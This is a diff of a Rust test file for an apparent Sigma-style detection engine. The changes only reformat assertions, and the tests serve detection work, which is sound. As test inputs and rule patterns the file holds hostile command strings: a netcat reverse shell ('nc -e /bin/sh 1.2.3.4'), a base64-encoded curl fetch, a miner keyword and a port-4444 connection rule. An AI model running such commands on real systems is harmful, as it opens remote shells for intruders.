@@ -57,17 +57,28 @@ fn contains_startswith_endswith_all() {
     );
     assert!(matches(
         &mut r,
-        &[(Field::Image, b"/usr/bin/nc"), (Field::CommandLine, b"nc -e /bin/sh 1.2.3.4")]
+        &[
+            (Field::Image, b"/usr/bin/nc"),
+            (Field::CommandLine, b"nc -e /bin/sh 1.2.3.4")
+        ]
     ));
     assert!(!matches(
         &mut r,
-        &[(Field::Image, b"/usr/bin/nc"), (Field::CommandLine, b"nc -e /bin/bash")]
+        &[
+            (Field::Image, b"/usr/bin/nc"),
+            (Field::CommandLine, b"nc -e /bin/bash")
+        ]
     ));
     assert!(!matches(
         &mut r,
-        &[(Field::Image, b"/usr/bin/ncat"), (Field::CommandLine, b"nc -e /bin/sh")]
+        &[
+            (Field::Image, b"/usr/bin/ncat"),
+            (Field::CommandLine, b"nc -e /bin/sh")
+        ]
     ));
-    let mut r = proc_rule("  sel:\n    CommandLine|startswith:\n      - 'a'\n      - 'b'\n  condition: sel");
+    let mut r = proc_rule(
+        "  sel:\n    CommandLine|startswith:\n      - 'a'\n      - 'b'\n  condition: sel",
+    );
     assert!(matches(&mut r, &[(Field::CommandLine, b"bx")]));
     assert!(!matches(&mut r, &[(Field::CommandLine, b"xb")]));
 }
@@ -89,13 +100,22 @@ fn not_and_or_of_patterns() {
     let mut r = proc_rule(
         "  selection_a:\n    Image|endswith: /a\n  selection_b:\n    Image|endswith: /b\n  filter:\n    CommandLine|contains: safe\n  condition: 1 of selection_* and not filter",
     );
-    assert!(matches(&mut r, &[(Field::Image, b"/x/b"), (Field::CommandLine, b"run")]));
-    assert!(!matches(&mut r, &[(Field::Image, b"/x/b"), (Field::CommandLine, b"safe run")]));
+    assert!(matches(
+        &mut r,
+        &[(Field::Image, b"/x/b"), (Field::CommandLine, b"run")]
+    ));
+    assert!(!matches(
+        &mut r,
+        &[(Field::Image, b"/x/b"), (Field::CommandLine, b"safe run")]
+    ));
     assert!(!matches(&mut r, &[(Field::Image, b"/x/c")]));
     let mut r = proc_rule(
         "  s1:\n    Image|endswith: /a\n  s2:\n    CommandLine|contains: z\n  condition: all of them",
     );
-    assert!(matches(&mut r, &[(Field::Image, b"/a"), (Field::CommandLine, b"zz")]));
+    assert!(matches(
+        &mut r,
+        &[(Field::Image, b"/a"), (Field::CommandLine, b"zz")]
+    ));
     assert!(!matches(&mut r, &[(Field::Image, b"/a")]));
 }
 
@@ -120,26 +140,39 @@ fn regex_by_bytes() {
 #[test]
 fn literals_match_non_utf8_bytes() {
     let mut r = proc_rule("  sel:\n    CommandLine|contains: 'miner'\n  condition: sel");
-    assert!(matches(&mut r, &[(Field::CommandLine, b"\xff\xfeminer\x80")]));
+    assert!(matches(
+        &mut r,
+        &[(Field::CommandLine, b"\xff\xfeminer\x80")]
+    ));
 }
 
 #[test]
 fn base64offset_contains() {
-    let mut r = proc_rule("  sel:\n    CommandLine|base64offset|contains: 'curl http'\n  condition: sel");
+    let mut r =
+        proc_rule("  sel:\n    CommandLine|base64offset|contains: 'curl http'\n  condition: sel");
     for prefix in ["", "x", "xy"] {
         let enc = compile::base64(format!("{prefix}curl http://a").as_bytes());
         let mut line = b"echo ".to_vec();
         line.extend_from_slice(&enc);
         assert!(matches(&mut r, &[(Field::CommandLine, &line)]), "{prefix}");
     }
-    assert!(!matches(&mut r, &[(Field::CommandLine, b"echo Y3VybCBodHRw".to_ascii_lowercase().as_slice())]));
+    assert!(!matches(
+        &mut r,
+        &[(
+            Field::CommandLine,
+            b"echo Y3VybCBodHRw".to_ascii_lowercase().as_slice()
+        )]
+    ));
 }
 
 #[test]
 fn windash_cidr_numbers_exists_null() {
     let mut r = proc_rule("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel");
     assert!(matches(&mut r, &[(Field::CommandLine, b"p /enc x")]));
-    assert!(matches(&mut r, &[(Field::CommandLine, "p \u{2013}enc x".as_bytes())]));
+    assert!(matches(
+        &mut r,
+        &[(Field::CommandLine, "p \u{2013}enc x".as_bytes())]
+    ));
     let mut r = rules(&rule(
         "network_connection",
         "  sel:\n    DestinationIp|cidr: 127.0.0.0/8\n    DestinationPort|gte: 4000\n  condition: sel",
@@ -148,18 +181,29 @@ fn windash_cidr_numbers_exists_null() {
     ev.set(Field::DestinationIp, b"127.0.0.9");
     ev.set_num(Field::DestinationPort, 4444);
     let mut hit = false;
-    r.engine(Category::NetworkConnection).evaluate(&ev, |_, _| hit = true);
+    r.engine(Category::NetworkConnection)
+        .evaluate(&ev, |_, _| hit = true);
     assert!(hit);
     ev.set_num(Field::DestinationPort, 80);
     hit = false;
-    r.engine(Category::NetworkConnection).evaluate(&ev, |_, _| hit = true);
+    r.engine(Category::NetworkConnection)
+        .evaluate(&ev, |_, _| hit = true);
     assert!(!hit);
-    let mut r = proc_rule("  sel:\n    Image|endswith: /a\n    CurrentDirectory|exists: true\n  condition: sel");
+    let mut r = proc_rule(
+        "  sel:\n    Image|endswith: /a\n    CurrentDirectory|exists: true\n  condition: sel",
+    );
     assert!(!matches(&mut r, &[(Field::Image, b"/a")]));
-    assert!(matches(&mut r, &[(Field::Image, b"/a"), (Field::CurrentDirectory, b"/")]));
-    let mut r = proc_rule("  sel:\n    Image|endswith: /a\n    ParentCommandLine: null\n  condition: sel");
+    assert!(matches(
+        &mut r,
+        &[(Field::Image, b"/a"), (Field::CurrentDirectory, b"/")]
+    ));
+    let mut r =
+        proc_rule("  sel:\n    Image|endswith: /a\n    ParentCommandLine: null\n  condition: sel");
     assert!(matches(&mut r, &[(Field::Image, b"/a")]));
-    assert!(!matches(&mut r, &[(Field::Image, b"/a"), (Field::ParentCommandLine, b"x")]));
+    assert!(!matches(
+        &mut r,
+        &[(Field::Image, b"/a"), (Field::ParentCommandLine, b"x")]
+    ));
 }
 
 #[test]
@@ -169,7 +213,11 @@ fn absent_fields_are_false_and_rules_on_them_unusable() {
         "  sel:\n    OriginalFileName: x.exe\n  condition: sel",
     ));
     assert_eq!(r.summary.loaded(), 0);
-    assert!(r.summary.skipped[0].why.contains("unusable"), "{:?}", r.summary.skipped);
+    assert!(
+        r.summary.skipped[0].why.contains("unusable"),
+        "{:?}",
+        r.summary.skipped
+    );
     let mut r = proc_rule(
         "  sel:\n    Image|endswith: /a\n  sel2:\n    Product: X\n  condition: sel and not sel2",
     );
@@ -214,7 +262,9 @@ fn metadata_and_severity() {
 
 #[test]
 fn only_candidate_rules_are_evaluated_but_negations_always_are() {
-    let r = proc_rule("  sel:\n    Image|endswith: /a\n  f:\n    CommandLine: x\n  condition: sel and not f");
+    let r = proc_rule(
+        "  sel:\n    Image|endswith: /a\n  f:\n    CommandLine: x\n  condition: sel and not f",
+    );
     assert!(r.engines[0].rules[0].detection.triggered_by_literals());
     let r = proc_rule("  f:\n    CommandLine: x\n  condition: not f");
     assert!(!r.engines[0].rules[0].detection.triggered_by_literals());
